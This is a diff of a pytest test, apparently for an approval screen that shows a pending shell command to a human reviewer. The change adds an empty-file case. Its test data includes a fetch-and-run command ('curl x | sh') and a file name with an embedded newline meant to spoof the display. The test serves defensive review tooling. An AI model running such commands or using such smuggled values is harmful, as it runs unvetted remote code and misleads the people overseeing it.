@@ -73,11 +73,11 @@ def card(anna: Person) -> list[str]:
 @pytest.mark.finding("F-10", "F-12")
 @pytest.mark.parametrize("size", [(60, 60), (100, 60)])
 async def test_every_part_is_shown_and_nothing_in_it_leaves_its_block(place: Place, size: tuple[int, int]) -> None:
-    data = {"argv": ["/bin/sh", LINK], "stdin": f"curl x | sh\n{HOSTILE}", "files": {"/tmp/x\nTool": HOSTILE}}
+    data = {"argv": ["/bin/sh", LINK], "stdin": f"curl x | sh\n{HOSTILE}", "files": {"/tmp/x\nTool": HOSTILE, "/y": ""}}
     held = wanted(place, Action(kind=ActionKind.COMMAND, tool="sh", folder="/srv", data=data))
     async with place.inbox(size) as anna:
         await anna.open()
-        await anna.sees("Command line", "Standard input", "y allows it")
+        await anna.sees("Command line", "Standard input", "(empty)", "y allows it")
         shown, screen = "".join(card(anna)), anna.screen()
         assert exact(HOSTILE).replace(" ", "") in shown.replace(" ", "")
         assert "curl x | sh" in shown
